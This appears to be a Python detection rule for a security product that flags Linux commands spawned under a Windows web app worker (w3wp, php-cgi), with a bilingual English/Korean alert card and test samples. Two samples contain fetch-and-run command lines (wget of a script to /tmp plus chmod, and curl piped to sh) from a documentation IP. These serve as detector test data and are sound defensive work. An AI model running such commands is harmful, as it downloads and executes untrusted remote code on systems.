"""AppServices_LinuxCommandOnWindows: a process under a Windows web app's worker whose command line
holds Linux commands or idioms — an attacker's tooling that assumed the wrong operating system."""

from __future__ import annotations

from typing import Any

from cloudward import saferegex
from cloudward.alerts import Finding
from cloudward.analytics.processes import WebContext, process_entities
from cloudward.detections.base import Card, Detection, Sample
from cloudward.detections.node._samples import sysmon_xml, winlogbeat
from cloudward.events import ProcessExec

W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
W3WP_CMD = 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "shop-prod" -v "v4.0" -a \\\\.\\pipe\\iisipm7d1c'
CMD = "C:\\Windows\\System32\\cmd.exe"
PHP_CGI = "D:\\Program Files\\PHP\\v8.2\\php-cgi.exe"
POOL_USER = "IIS APPPOOL\\shop-prod"

CARD = Card(
    id="AppServices_LinuxCommandOnWindows",
    title="An attempt to run Linux commands on a Windows App Service",
    title_ko="Windows App Service에서 Linux 명령 실행 시도",
    severity="medium",
    tactics=("Execution",),
    techniques=("T1059", "T1505.003"),
    data_source="PROC",
    looks_at="process starts on Windows hosts (Sysmon event 1, XML or JSON; ECS) whose ancestors include a "
             "web worker (web_workers) and whose command line matches the linux_commands patterns",
    description="On Windows[[ host {host}]], {process} (pid {pid}) started by the web app ({origin}) ran Linux "
                "commands ({commands}): {command_line}. Someone is running commands through the web app, "
                "probably with tooling written for Linux.",
    description_ko="Windows 호스트[[ {host}]]에서 웹 앱({origin_ko})이 시작한 {process}(pid {pid})이(가) Linux 명령"
                   "({commands})을 실행했습니다: {command_line}. 누군가 웹 앱을 통해 명령을 실행하고 있으며, "
                   "Linux용 공격 도구를 사용한 것으로 보입니다.",
    remediation=(
        "Find the request that started the command: match the process start time with the web server's "
        "access log and look for a web shell or an injectable parameter.",
        "Remove any web shell or uploaded script, and patch the vulnerable page or plug-in.",
        "Rotate the credentials the app holds (connection strings, keys) and review outbound connections.",
        "Restrict what the app pool identity can run (AppLocker/WDAC) and keep the site's file system read-only.",
    ),
    remediation_ko=(
        "프로세스 시작 시각을 웹 서버 접근 로그와 대조해 명령을 시작한 요청을 찾고, 웹 셸이나 주입 가능한 매개변수를 확인하십시오.",
        "웹 셸이나 업로드된 스크립트를 제거하고 취약한 페이지나 플러그인을 패치하십시오.",
        "앱이 보유한 자격 증명(연결 문자열, 키)을 교체하고 외부 연결을 검토하십시오.",
        "앱 풀 ID가 실행할 수 있는 프로그램을 제한(AppLocker/WDAC)하고 사이트 파일 시스템을 읽기 전용으로 유지하십시오.",
    ),
    false_positives=(
        "Build or deployment scripts run by the web app itself that use Git Bash or WSL tools; allow them "
        "with { command_line = \"*deploy.sh*\" }.",
    ),
    samples=(
        Sample("w3wp starts cmd.exe running uname and id (Sysmon XML)", "sysmon-xml",
               sysmon_xml(CMD, 'cmd.exe /c "uname -a; id;"', parent_image=W3WP, parent_command_line=W3WP_CMD,
                          user=POOL_USER),
               expect=1, entities={"host": "WEBAPP01", "process": "cmd.exe", "user": POOL_USER,
                                   "commands": ["uname", "id;"]}),
        Sample("php-cgi downloads a script to /tmp and makes it executable (winlogbeat)", "sysmon-json",
               winlogbeat(CMD, 'cmd.exe /c "wget http://203.0.113.9/x.sh -O /tmp/x.sh && chmod +x /tmp/x.sh"',
                          parent_image=PHP_CGI, parent_command_line=f'"{PHP_CGI}"', user=POOL_USER),
               expect=1, entities={"process": "cmd.exe"}),
        Sample("curl piped to sh from powershell under w3wp", "sysmon-xml",
               sysmon_xml("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                          "powershell -c \"curl.exe -s http://203.0.113.9/i | sh\"", parent_image=W3WP,
                          parent_command_line=W3WP_CMD, user=POOL_USER),
               expect=1),
        Sample("w3wp running a Windows command (dir) is not Linux", "sysmon-xml",
               sysmon_xml(CMD, 'cmd.exe /c "dir D:\\home\\site\\wwwroot"', parent_image=W3WP,
                          parent_command_line=W3WP_CMD, user=POOL_USER), expect=0),
        Sample("an administrator using WSL from their own shell", "sysmon-xml",
               sysmon_xml("C:\\Windows\\System32\\wsl.exe", "wsl.exe uname -a",
                          parent_image="C:\\Windows\\explorer.exe", parent_command_line="C:\\Windows\\Explorer.EXE",
                          user="CONTOSO\\admin"), expect=0),
        Sample("the same Linux command on a Linux host is not this alert", "sysmon-xml",
               sysmon_xml("/usr/bin/uname", "uname -a", parent_image="/usr/sbin/php-fpm8.2",
                          parent_command_line="php-fpm: pool www", user="www-data", provider="Linux-Sysmon",
                          computer="web-01", cwd="/var/www"), expect=0),
    ),
)


class LinuxCommandOnWindows(Detection):
    card = CARD
    kinds = (ProcessExec,)
    #: process executions `evaluate` can find anything in (only Windows processes; see cloudward.process_dispatch)
    process_gate = {"host": "windows", "container": "windows"}

    def setup(self) -> None:
        self.web = WebContext(self.data)
        self.patterns: list[tuple[str, Any]] = []
        for entry in self.data.get("linux_commands"):
            if isinstance(entry, dict) and isinstance(entry.get("pattern"), str):
                self.patterns.append((str(entry.get("name") or entry["pattern"]),
                                      saferegex.compile(entry["pattern"], ignore_case=True)))
            elif isinstance(entry, str):
                self.patterns.append((entry, saferegex.compile(entry, ignore_case=True)))

    def evaluate(self, event: ProcessExec) -> list[Finding] | None:
        if event.os != "windows" or not event.command_line:
            return None
        worker = self.web.worker_ancestor(event)
        if not worker:
            return None
        text = event.command_line  # RE2: linear in the whole command line, never cut
        found = [name for name, rx in self.patterns if rx.search(text)]
        if not found:
            return None
        ent = process_entities(event)
        ent["commands"] = found
        ent["web_worker"] = worker
        return [Finding(key=f"{event.host}|{worker}|{event.command_line}", entities=ent, event=event,
                        params={"origin": f"descendant of {worker}",
                                "origin_ko": f"{worker}의 하위 프로세스"})]
